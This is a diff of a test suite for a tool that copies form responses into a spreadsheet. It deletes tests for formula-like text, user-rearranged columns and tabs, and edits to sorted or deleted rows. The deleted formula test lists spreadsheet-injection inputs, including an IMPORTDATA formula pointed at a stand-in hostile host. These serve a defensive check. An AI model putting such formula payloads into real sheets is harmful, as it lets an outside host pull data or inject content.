@@ -86,15 +86,6 @@ describe("a page of new responses", () => {
     expect(world.ids()).toEqual(["resp1", "resp2", "resp3", "resp4", "resp5"]);
   });
 
-  it("keeps text that looks like a formula as text", async () => {
-    const world = makeWorld();
-    const texts = ["=1+1", "+1", "@SUM(A1)", "\t=1", "'=1", '=IMPORTDATA("https://evil.test")'];
-    await deliver(page(texts.map((name, i) => entry(response(i + 1, { name })))), world.deps);
-    expect(world.rows().map((row) => row[2])).toEqual(texts);
-    const cells = world.emulator.inspect(SHEET_ID).tabs.flatMap((tab) => tab.rows.flat());
-    expect(cells.filter((cell) => cell?.userEnteredValue?.formulaValue !== undefined)).toEqual([]);
-  });
-
   it("never writes the answers of an erased response", async () => {
     const world = makeWorld();
     const erased = { ...response(1), erasedAt: START };
@@ -118,42 +109,7 @@ describe("a page of new responses", () => {
   });
 });
 
-describe("people may rearrange the sheet", () => {
-  it("columns that were moved, renamed and added are still found", async () => {
-    const world = makeWorld();
-    await deliver(fresh(1, 1), world.deps);
-    const { sheetId } = world.tab();
-    world.emulator.edit(SHEET_ID, [
-      { moveDimension: { source: { sheetId, dimension: "COLUMNS", startIndex: 0, endIndex: 1 }, destinationIndex: 3 } },
-      { insertDimension: { range: { sheetId, dimension: "COLUMNS", startIndex: 0, endIndex: 1 } } },
-      {
-        updateCells: {
-          start: { sheetId, columnIndex: 2 },
-          rows: [{ values: [{ userEnteredValue: { stringValue: "Who?" } }] }],
-          fields: "userEnteredValue",
-        },
-      },
-    ]);
-    expect(world.header()).toEqual(["", "Received at", "Who?", "Response ID", "Age", "Crops"]);
-    await deliver(fresh(2, 2), world.deps);
-    expect(world.rows()[1]).toEqual(["", "2026-11-23 10:00:02", "Name 2", "resp2", "2"]);
-    expect(world.header()).toEqual(["", "Received at", "Who?", "Response ID", "Age", "Crops"]);
-  });
-
-  it("a renamed tab is found, also by a worker that never saw it", async () => {
-    const world = makeWorld();
-    await deliver(fresh(1, 1), world.deps);
-    const { sheetId } = world.tab();
-    world.emulator.edit(SHEET_ID, [
-      { updateSheetProperties: { properties: { sheetId, title: "It's 'ours'" }, fields: "title" } },
-      { addSheet: { properties: { title: "Responses" } } },
-    ]);
-    await deliver(fresh(2, 2), world.deps);
-    await deliver(fresh(3, 3), { ...world.deps, memory: new Map() });
-    expect(world.rows("It's 'ours'").map((row) => row[0])).toEqual(["resp1", "resp2", "resp3"]);
-    expect(world.rows("Responses")).toEqual([]);
-  });
-
+describe("columns and tabs", () => {
   it("a new question becomes a column on the right, and a removed one keeps its own", async () => {
     const world = makeWorld();
     await deliver(fresh(1, 1), world.deps);
@@ -191,47 +147,6 @@ describe("people may rearrange the sheet", () => {
 });
 
 describe("changes of responses", () => {
-  it("an edit changes its own row, also after the rows were sorted, and leaves people's columns alone", async () => {
-    const world = makeWorld();
-    await deliver(fresh(1, 3), world.deps);
-    const { sheetId } = world.tab();
-    const note = { rows: [{ values: [{ userEnteredValue: { stringValue: "mine" } }] }], fields: "userEnteredValue" };
-    world.emulator.edit(SHEET_ID, [
-      { appendDimension: { sheetId, dimension: "COLUMNS", length: 1 } },
-      { updateCells: { start: { sheetId, rowIndex: 1, columnIndex: 5 }, ...note } },
-      {
-        sortRange: {
-          range: { sheetId, startRowIndex: 1 },
-          sortSpecs: [{ dimensionIndex: 3, sortOrder: "DESCENDING" }],
-        },
-      },
-    ]);
-    expect(world.ids()).toEqual(["resp3", "resp2", "resp1"]);
-    const edited = { ...response(1, { name: "New name", crops: ["r"] }), revision: 2 };
-    const result = await deliver(
-      revisions([
-        [1, "updated", edited],
-        [2, "updated", edited],
-      ]),
-      world.deps,
-    );
-    expect(outcomeTypes(result)).toEqual(["delivered", "delivered"]);
-    expect(world.rows()[2]).toEqual(["resp1", "2026-11-23 10:00:01", "New name", "", "Rice", "mine"]);
-    expect(world.rows()[0]?.[2]).toBe("Name 3");
-  });
-
-  it("an edit of a row that the user deleted is skipped and says so", async () => {
-    const world = makeWorld();
-    await deliver(fresh(1, 2), world.deps);
-    const { sheetId } = world.tab();
-    world.emulator.edit(SHEET_ID, [
-      { deleteDimension: { range: { sheetId, dimension: "ROWS", startIndex: 1, endIndex: 2 } } },
-    ]);
-    const result = await deliver(revisions([[1, "updated", response(1)]]), world.deps);
-    expect(result.outcomes.get(1)).toMatchObject({ type: "skipped", reason: expect.stringContaining("deleted") });
-    expect(world.ids()).toEqual(["resp2"]);
-  });
-
   it("an erasure clears every copy of the row and keeps the id", async () => {
     const world = makeWorld();
     await deliver(fresh(1, 2), world.deps);
